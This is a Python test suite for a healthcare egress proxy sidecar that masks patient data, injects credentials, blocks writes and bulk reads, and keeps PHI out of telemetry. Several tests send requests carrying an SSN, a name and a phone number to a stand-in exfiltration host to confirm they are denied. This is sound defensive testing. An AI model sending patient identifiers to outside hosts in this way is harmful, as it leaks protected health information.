"""The sidecar as a real subprocess: every decision path, masking, bad upstream input, spans, ops."""

from __future__ import annotations

import json
import subprocess
import uuid
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from tests.sidecar.conftest import CRED_TOKEN, Env
from tests.sidecar.harness import (
    NAMESPACE,
    POD,
    SA,
    SidecarProc,
    dump_spans,
    grant_doc,
    policy_doc,
    spans_for,
    start_sidecar,
)
from tests.support.otlp_receiver import OTLPReceiver

MAX_BODY = 65536


def main_policy(env: Env) -> dict[str, Any]:
    return policy_doc(
        destinations=[
            {
                "name": "ehr",
                "kind": "phi-source",
                "host": "localhost",
                "port": env.ehr.port,
                "credentials": {"secretRef": {"name": "ehr-token", "key": "token"}},
            },
            {"name": "rogue", "kind": "phi-source", "host": "127.0.0.1", "port": env.rogue.port},
            {"name": "web", "kind": "other", "host": "localhost", "port": env.web.port},
        ],
        requestRules={
            "block": [
                {"name": "no-writes", "methods": ["POST", "PUT", "PATCH", "DELETE"], "destinations": ["ehr"]}
            ]
        },
        limits={"maxBodyBytes": MAX_BODY},
        audit={"bodyCapBytes": 2048, "recordOtherResponses": True},
    )


@pytest.fixture(scope="module")
def sidecar(
    sidecar_env: Env, otlp: OTLPReceiver, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[SidecarProc]:
    sc = start_sidecar(
        tmp_path_factory.mktemp("main-sidecar"),
        policy=[main_policy(sidecar_env)],
        grants=[grant_doc("alice")],
        ca_dir=sidecar_env.ca_dir,
        otlp_url=otlp.traces_url,
        upstream_ca=sidecar_env.pki.ca_cert,
        credentials_dir=sidecar_env.creds,
    )
    yield sc
    assert sc.stop() == 0, sc.logs()[-3000:]


def ua() -> str:
    return f"test-agent/{uuid.uuid4().hex[:12]}"


def assert_no_phi(text: str, env: Env) -> None:
    leaked = [v for v in env.ehr.all_phi() if v in text]
    assert not leaked, f"unmasked PHI left the sidecar: {leaked}"


def assert_refusal(r: httpx.Response, status: int, reason: str) -> dict[str, Any]:
    assert r.status_code == status, r.text
    body = r.json()
    assert set(body) == {"error", "reason", "destination", "how_to_request_access"}
    assert body["reason"] == reason
    return body


# --------------------------------------------------------------------------- allowed, masked


def test_allowed_read_is_masked_with_credentials_injected(
    sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver
) -> None:
    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.get(f"{sidecar_env.ehr.url}/Patient/pat-1", headers={"Authorization": "Bearer agent-own-token"})
    assert r.status_code == 200, r.text
    assert r.json()["resourceType"] == "Patient"
    assert_no_phi(r.text, sidecar_env)
    assert "etag" not in r.headers and "content-encoding" not in r.headers
    assert int(r.headers["content-length"]) == len(r.content)
    seen = [s for s in sidecar_env.ehr.seen if s.headers.get("user-agent") == agent]
    assert len(seen) == 1
    assert seen[0].headers["authorization"] == f"Bearer {CRED_TOKEN}"  # injected, the agent's one stripped
    (span,) = spans_for(otlp, agent)
    a = span["attributes"]
    assert span["name"] == "GET /fhir/Patient/{id}"
    assert a["phigate.decision"] == "allow"
    assert a["http.request.method"] == "GET" and a["http.response.status_code"] == 200
    assert a["server.address"] == "localhost" and a["url.path"].startswith("/fhir/Patient/")
    assert a["enduser.id"] == "alice@example.org" and a["phigate.grant"] == "alice"
    assert a["k8s.pod.name"] == POD and a["k8s.namespace.name"] == NAMESPACE
    assert a["phigate.service_account"] == SA and a["phigate.policy"] == "test-policy"
    assert len(a["phigate.policy.hash"]) >= 8
    assert a["phigate.phi.masked_count"] >= 5 and "NAME" in a["phigate.phi.types"]
    assert a["phigate.phi.masked.NAME"] >= 1
    assert a["http.response.body.size"] == len(r.content)
    assert [e["name"] for e in span["events"]] == ["phigate.response.body"]
    assert CRED_TOKEN not in dump_spans([span])


def test_http2_and_curl(sidecar: SidecarProc, sidecar_env: Env) -> None:
    out = subprocess.run(
        ["curl", "-sS", "--fail", "--http2", "-w", "\n%{http_version}", "--proxy", sidecar.proxy_url,
         "--cacert", str(sidecar.ca_cert), f"{sidecar_env.ehr.url}/Patient?_count=3"],
        capture_output=True, text=True, timeout=30, check=True,
    )  # fmt: skip
    body, _, version = out.stdout.rpartition("\n")
    assert version == "2"  # HTTP/2 to the agent, HTTP/1.1 to the upstream
    assert json.loads(body)["resourceType"] == "Bundle" and len(json.loads(body)["entry"]) == 3
    assert_no_phi(body, sidecar_env)
    with sidecar.client() as c:
        r = c.get(f"{sidecar_env.ehr.url}/Patient/pat-2")
    assert r.status_code == 200 and r.json()["resourceType"] == "Patient" and r.json()["id"] != "pat-2"
    assert_no_phi(r.text, sidecar_env)


@pytest.mark.parametrize(
    "path", ["gzip", "deflate", "br", "zstd", "gzip-no-header", "lying-type", "html-json"]
)
def test_encodings_and_lying_headers_are_decoded_then_masked(
    sidecar: SidecarProc, sidecar_env: Env, path: str
) -> None:
    # curl without --compressed: we see exactly the bytes the sidecar sent.
    base = sidecar_env.ehr.url.replace("/fhir", "")
    out = subprocess.run(
        ["curl", "-sS", "-D", "-", "--suppress-connect-headers", "--proxy", sidecar.proxy_url,
         "--cacert", str(sidecar.ca_cert), f"{base}/test/{path}"],
        capture_output=True, timeout=30, check=True,
    )  # fmt: skip
    head, _, body = out.stdout.partition(b"\r\n\r\n")
    assert head.split(b"\r\n")[0].split()[1] == b"200", head
    assert b"content-encoding" not in head.lower()
    assert json.loads(body)["resourceType"] == "Patient"  # plain JSON, not compressed bytes
    assert_no_phi(body.decode(), sidecar_env)


def test_ndjson_and_text_are_masked(sidecar: SidecarProc, sidecar_env: Env) -> None:
    base = sidecar_env.ehr.url.replace("/fhir", "")
    with sidecar.client() as c:
        nd = c.get(f"{base}/test/ndjson")
        txt = c.get(f"{base}/test/text")
    assert nd.status_code == 200 and len(nd.text.strip().splitlines()) == len(sidecar_env.ehr.patients)
    assert_no_phi(nd.text, sidecar_env)
    assert txt.status_code == 200 and "follow-up" in txt.text
    assert_no_phi(txt.text, sidecar_env)


def test_small_chunked_response_is_masked(sidecar: SidecarProc, sidecar_env: Env) -> None:
    with sidecar.client() as c:
        r = c.get(sidecar_env.ehr.url.replace("/fhir", "") + "/test/chunked")
    assert r.status_code == 200 and r.json()["resourceType"] == "Patient" and r.json()["id"] != "pat-1"
    assert_no_phi(r.text, sidecar_env)


# --------------------------------------------------------------------------- refusals


def test_unlisted_destination_denied(sidecar: SidecarProc, otlp: OTLPReceiver) -> None:
    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.get("https://exfil.example.net/upload?ssn=123-45-6789")
        r2 = c.get("http://exfil.example.net/plain")
    body = assert_refusal(r, 403, "destination-not-allowed")
    assert body["destination"] == "exfil.example.net" and "spec.destinations" in body["how_to_request_access"]
    assert_refusal(r2, 403, "destination-not-allowed")
    spans = spans_for(otlp, agent, 2)
    assert len(spans) == 2 and {s["attributes"]["phigate.decision"] for s in spans} == {"deny"}
    assert "123-45-6789" not in dump_spans(spans)


def test_blocked_write_never_reaches_upstream(
    sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver
) -> None:
    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.post(
            f"{sidecar_env.ehr.url}/Patient", json={"resourceType": "Patient", "name": [{"family": "Zed"}]}
        )
    body = assert_refusal(r, 403, "blocked-by-rule")
    assert "no-writes" in body["error"]
    assert not [s for s in sidecar_env.ehr.seen if s.headers.get("user-agent") == agent]
    (span,) = spans_for(otlp, agent)
    assert span["attributes"]["phigate.rule"] == "no-writes" and span["name"] == "POST /fhir/Patient"


def test_bulk_read_needs_approval(sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver) -> None:
    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.get(f"{sidecar_env.ehr.url}/Patient", params={"_count": "500"})
        r2 = c.get(f"{sidecar_env.ehr.url}/Patient/pat-1/$everything")
    body = assert_refusal(r, 403, "approval-required")
    assert "elevated" in body["how_to_request_access"] and "large-count" in body["error"]
    assert_refusal(r2, 403, "approval-required")
    spans = spans_for(otlp, agent, 2)
    assert sorted(s["attributes"]["phigate.risk.score"] for s in spans) == [60, 80]


# --------------------------------------------------------------------------- bad upstream input


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("corrupt-gzip", "undecodable-body"),
        ("binary", "withheld"),
        ("big?n=200000", "body-too-large"),
    ],
)
def test_bad_phi_bodies_fail_closed(
    sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver, path: str, reason: str
) -> None:
    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.get(sidecar_env.ehr.url.replace("/fhir", "") + f"/test/{path}")
    assert_refusal(r, 502, reason)
    (span,) = spans_for(otlp, agent)
    assert span["attributes"]["phigate.decision"] == "error"
    assert span["attributes"]["phigate.decision.reason"] == reason
    assert span["status"].get("code") == "STATUS_CODE_ERROR"


def test_unparseable_json_never_passes(sidecar: SidecarProc, sidecar_env: Env) -> None:
    with sidecar.client() as c:
        r = c.get(sidecar_env.ehr.url.replace("/fhir", "") + "/test/not-json")
    # The engine either refuses it (502) or masks it as text; never the upstream bytes unmasked.
    assert r.status_code in (200, 502)
    assert_no_phi(r.text, sidecar_env)


def test_oversized_chunked_body_is_cut_off(
    sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver
) -> None:
    agent = ua()
    url = sidecar_env.ehr.url.replace("/fhir", "") + f"/test/chunked-big?n={MAX_BODY * 3}"
    with sidecar.client(ua=agent) as c, pytest.raises(httpx.HTTPError):
        c.get(url).raise_for_status()
    (span,) = spans_for(otlp, agent)
    assert span["attributes"]["phigate.decision"] == "error"
    assert span["attributes"]["phigate.decision.reason"] == "body-too-large"


def test_untrusted_upstream_certificate(sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver) -> None:
    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.get(f"https://127.0.0.1:{sidecar_env.rogue.port}/fhir/Patient/pat-1")
    assert r.status_code == 502
    assert_no_phi(r.text, sidecar_env)
    assert not [p for p in sidecar_env.rogue.all_phi() if p in r.text]
    (span,) = spans_for(otlp, agent)
    assert span["attributes"]["phigate.decision"] == "error"
    assert span["attributes"]["phigate.decision.reason"] == "upstream-error"


def test_other_destination_passes_unmasked_but_audited(
    sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver
) -> None:
    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.get(f"{sidecar_env.web.url}/Patient/pat-1")
    assert r.status_code == 200 and r.json()["id"] == "pat-1"  # kind other: no PHI handling
    (span,) = spans_for(otlp, agent)
    assert span["attributes"]["phigate.decision"] == "allow"
    assert span["attributes"]["phigate.destination.kind"] == "other"
    assert "enduser.id" not in span["attributes"]
    # ...but its transcript is masked before it enters the audit trail
    assert not [v for v in sidecar_env.web.all_phi() if v in dump_spans([span])]


def test_large_body_transcript_is_a_masked_sample(
    sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver
) -> None:
    """A 300 kB Bundle from an `other` destination passes whole; its transcript is a masked head of
    about audit.bodyCapBytes (2048 here; only that head is scanned), marked truncated, full size."""
    import random

    from phigate.synthetic import make_patient_bundle

    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.get(f"{sidecar_env.web.url}/bundle", params={"size": "300000"})
    assert r.status_code == 200 and len(r.content) > 250_000
    (span,) = spans_for(otlp, agent)
    (event,) = [e for e in span["events"] if e["name"] == "phigate.response.body"]
    body = event["attributes"]["phigate.body"]
    assert event["attributes"]["phigate.body.truncated"] is True
    assert event["attributes"]["phigate.body.bytes"] == len(r.content)
    assert 1000 < len(body.encode()) <= 2048
    assert body.startswith('{"resourceType": "Bundle"')
    doc = make_patient_bundle(random.Random(7), size_bytes=300000)  # the mock's bundle (same seed)
    assert json.loads(r.content) == doc.json
    head = r.text[:4096]
    in_head = [p.value for p in doc.phi if len(p.value) >= 4 and p.value in head]
    assert len(in_head) >= 10
    leaked = [v for v in in_head if v in body]
    assert not leaked, leaked


# --------------------------------------------------------------------------- span hygiene and ops


def test_phi_in_urls_never_reaches_spans(sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver) -> None:
    p = sidecar_env.ehr.patients["pat-3"]
    family, dob, ssn = p["name"][0]["family"], p["birthDate"], p["identifier"][1]["value"]
    agent = ua()
    with sidecar.client(ua=agent) as c:
        c.get(f"{sidecar_env.ehr.url}/Patient", params={"family": family, "birthdate": dob, "_count": "2"})
        c.get(f"{sidecar_env.ehr.url}/Patient/{ssn}")
        c.get(f"https://exfil.example.net/{family}/{ssn}", params={"phone": p["telecom"][0]["value"]})
    spans = spans_for(otlp, agent, 3)
    assert len(spans) == 3
    text = dump_spans(spans)
    for value in (family, dob, ssn, p["telecom"][0]["value"]):
        assert value not in text, f"{value!r} leaked into a span"


def test_no_synthetic_phi_in_any_exported_span(
    sidecar: SidecarProc, sidecar_env: Env, otlp: OTLPReceiver
) -> None:
    assert len(otlp.spans) >= 10
    text = dump_spans(otlp.spans)
    leaked = [v for v in sidecar_env.ehr.all_phi() + sidecar_env.web.all_phi() if v in text]
    assert not leaked, leaked
    assert CRED_TOKEN not in text


def test_health_ready_metrics(sidecar: SidecarProc) -> None:
    assert sidecar.health("/healthz").status_code == 200
    assert sidecar.health("/readyz").text.strip() == "ready"
    m = sidecar.health("/metrics").text
    assert 'phigate_requests_total{decision="allow",kind="phi-source"}' in m
    assert 'phigate_requests_total{decision="deny",kind="none"}' in m
    assert 'phigate_phi_masked_total{type="NAME"}' in m
    assert "phigate_request_duration_seconds_bucket" in m
    assert sidecar.health("/nope").status_code == 404


def test_logs_are_json(sidecar: SidecarProc) -> None:
    lines = [ln for ln in sidecar.logs().splitlines() if ln.strip()]
    assert lines
    for ln in lines:
        doc = json.loads(ln)
        assert {"ts", "level", "logger", "msg"} <= set(doc)


def test_large_upload_to_other_destination_is_streamed(sidecar: SidecarProc, sidecar_env: Env) -> None:
    body = b"x" * (3 * 1024 * 1024)
    agent = ua()
    with sidecar.client(ua=agent) as c:
        r = c.post(f"{sidecar_env.web.url}/Binary", content=body)
    assert r.status_code == 201
    (seen,) = [s for s in sidecar_env.web.seen if s.headers.get("user-agent") == agent]
    assert seen.body == body
